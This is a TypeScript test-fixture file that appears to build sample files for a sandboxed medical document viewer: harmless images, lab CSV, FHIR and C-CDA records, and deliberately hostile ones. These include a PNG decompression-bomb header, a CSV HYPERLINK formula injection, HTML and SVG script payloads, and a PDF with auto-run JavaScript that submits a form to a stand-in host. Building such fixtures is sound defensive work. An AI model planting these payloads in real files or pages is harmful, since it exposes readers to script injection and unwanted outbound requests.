/** Files for the viewer, made here: harmless ones of each kind, and ones that try to be more than a picture or a text. */
import { deflateSync } from "node:zlib";
import type { Bytes } from "@safeconduct/foundation";

export const utf8 = (text: string): Bytes => new Uint8Array(Buffer.from(text));

/** One colour, or what `colour` says for each pixel. */
export function png(width: number, height: number, colour: (x: number, y: number) => number = () => 128): Bytes {
  const rows = Buffer.alloc(height * (width + 1));
  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) rows[y * (width + 1) + 1 + x] = colour(x, y);
  return new Uint8Array(
    Buffer.concat([
      Buffer.from("89504e470d0a1a0a", "hex"),
      chunk("IHDR", pngHeader(width, height)),
      chunk("IDAT", deflateSync(rows)),
      chunk("IEND", Buffer.alloc(0)),
    ]),
  );
}

/** A few bytes that ask for `width` × `height` pixels. */
export const pngBomb = (width: number, height: number): Bytes =>
  new Uint8Array(Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), chunk("IHDR", pngHeader(width, height))]));

function pngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // Eight bits of grey.
  header[8] = 8;
  return header;
}

function chunk(name: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, "latin1"), content]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

/** ISO 3309, as PNG has it. */
function crc32(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

/** 24 bits a pixel, all of one grey. */
export function bmp(width: number, height: number): Bytes {
  const rowBytes = Math.ceil((width * 3) / 4) * 4;
  const file = Buffer.alloc(54 + rowBytes * height, 128);
  file.fill(0, 0, 54);
  file.write("BM", "latin1");
  file.writeUInt32LE(file.length, 2);
  file.writeUInt32LE(54, 10);
  file.writeUInt32LE(40, 14);
  file.writeInt32LE(width, 18);
  file.writeInt32LE(height, 22);
  file.writeUInt16LE(1, 26);
  file.writeUInt16LE(24, 28);
  return new Uint8Array(file);
}

/** One grey pixel. */
export const gif = (): Bytes =>
  new Uint8Array(Buffer.from("474946383961010001008000008080800000002c00000000010001000002024401003b", "hex"));

export const LABS_CSV = utf8(
  [
    "Date,Test,Result,Unit,Reference,Comment",
    '2026-11-18,Haemoglobin,13.9,g/dL,12.0–15.5,"within range, no change"',
    "2026-11-18,Potassium,4.2,mmol/L,3.5–5.1,",
    '2026-11-18,Creatinine,0.9,mg/dL,0.6–1.1,"=HYPERLINK(""https://elsewhere.example"",""open"")"',
    "2026-11-18,CRP,<5,mg/L,<5,+1 repeated",
    "2026-11-18,NT-proBNP,312,pg/mL,<125,raised",
  ].join("\r\n"),
);

export const NOTE_TEXT = utf8(
  "Dear colleague,\n\nplease find the referral of today.\n\nHistory: palpitations since the summer, worse on exertion.\nMedication: bisoprolol 2.5 mg once a day.\n\nWith kind regards\nM. Okafor\n",
);

export const BUNDLE_JSON = utf8(
  JSON.stringify({
    resourceType: "Bundle",
    type: "document",
    entry: [
      { resource: { resourceType: "Patient", name: [{ family: "Example", given: ["Ada"] }], birthDate: "1950-01-01" } },
      { resource: { resourceType: "Observation", status: "final", valueQuantity: { value: 4.2, unit: "mmol/L" } } },
    ],
  }).replace('"final"', '"final","identifier":12345678901234567890123'),
);

/** Markup that would run, load or lead away in a page that trusts it. */
export const HOSTILE_MARKUP = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script><iframe src="https://elsewhere.example/"></iframe>`;

export const HOSTILE_SVG = utf8(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='owned'"><script>document.title='owned'</script><image href="https://elsewhere.example/x.png"/></svg>`,
);

/** A small C-CDA document whose narrative holds what the standard has, and what no narrative may do. */
export const clinicalDocument = (narrative = ""): Bytes =>
  utf8(`<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="https://elsewhere.example/CDA.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:sdtc="urn:hl7-org:sdtc">
  <title>Referral Note</title>
  <effectiveTime value="20261118103000+0100"/>
  <recordTarget><patientRole>
    <id extension="A-1042" root="2.16.840.1.113883.19"/>
    <patient><name><given>Ada</given> <family>Example</family></name>
      <administrativeGenderCode code="F" displayName="Female"/><birthTime value="19500101"/></patient>
  </patientRole></recordTarget>
  <author><assignedAuthor><assignedPerson><name><given>M.</given> <family>Okafor</family></name></assignedPerson></assignedAuthor></author>
  <custodian><assignedCustodian><representedCustodianOrganization><name>Riverside Clinic</name></representedCustodianOrganization></assignedCustodian></custodian>
  <component><structuredBody>
    <component><section><title>Allergies</title><text>
      <table><thead><tr><th>Substance</th><th>Reaction</th><th>Severity</th></tr></thead>
        <tbody><tr><td>Penicillin V</td><td><content ID="r1">Urticaria</content></td><td>moderate</td></tr>
        <tr><td>Latex</td><td>Contact dermatitis</td><td>mild</td></tr></tbody></table>
    </text></section></component>
    <component><section><title>Medications</title><text>
      <list listType="ordered"><item>Bisoprolol 2.5 mg, <content styleCode="Bold">once a day</content></item><item>Ramipril 5&#160;mg, once a day</item></list>
    </text></section></component>
    <component><section><title>Reason for referral</title><text>
      <paragraph>Palpitations since the summer.<br/>Please see <linkHtml href="https://elsewhere.example/ecg">the recording</linkHtml>.</paragraph>${narrative}
    </text></section></component>
  </structuredBody></component>
</ClinicalDocument>`);

/**
 * A PDF with these pages, each a stream of drawing. Without a table of objects: readers find the objects themselves. `catalog` and `pages`
 * add entries to those dictionaries, `objects` stand beside them from number 100 on.
 */
export function pdf(
  pages: readonly string[],
  {
    mediaBox = "0 0 420 595",
    catalog = "",
    page = "",
    objects = [],
  }: { mediaBox?: string; catalog?: string; page?: string; objects?: readonly string[] } = {},
): Bytes {
  const kids = pages.map((_, index) => `${10 + 2 * index} 0 R`).join(" ");
  return utf8(
    [
      "%PDF-1.7",
      `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj`,
      `2 0 obj << /Type /Pages /Kids [${kids}] /Count ${pages.length} >> endobj`,
      "3 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj",
      ...pages.flatMap((drawing, index) => [
        `${10 + 2 * index} 0 obj << /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Resources << /Font << /F 3 0 R >> >> /Contents ${11 + 2 * index} 0 R ${page} >> endobj`,
        `${11 + 2 * index} 0 obj << /Length ${drawing.length} >> stream\n${drawing}\nendstream endobj`,
      ]),
      ...objects.map((object, index) => `${100 + index} 0 obj ${object} endobj`),
      "trailer << /Root 1 0 R >>",
      "%%EOF",
    ].join("\n"),
  );
}

export const pdfText = (...lines: readonly string[]): string =>
  `BT /F 16 Tf 40 540 Td 22 TL ${lines.map((line) => `(${line}) Tj T*`).join(" ")} ET`;

/** What a PDF can do to whoever follows it: scripts at opening, links, forms, files within, programs to start. */
export const HOSTILE_PDF = pdf([pdfText("A page that wants more")], {
  catalog:
    "/OpenAction 100 0 R /AA << /WC 100 0 R >> /Names << /JavaScript << /Names [(a) 100 0 R] >> >> /AcroForm 101 0 R",
  page: "/Annots [102 0 R 103 0 R] /AA << /O 100 0 R >>",
  objects: [
    "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://elsewhere.example'\\);) >>",
    "<< /XFA (<xdp><script>document.title='owned'</script></xdp>) /Fields [103 0 R] >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /URI /URI (https://elsewhere.example) >> >>",
    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=alert\\(1\\)>) /Rect [10 10 90 90] /AA << /K 100 0 R >> >>",
  ],
});
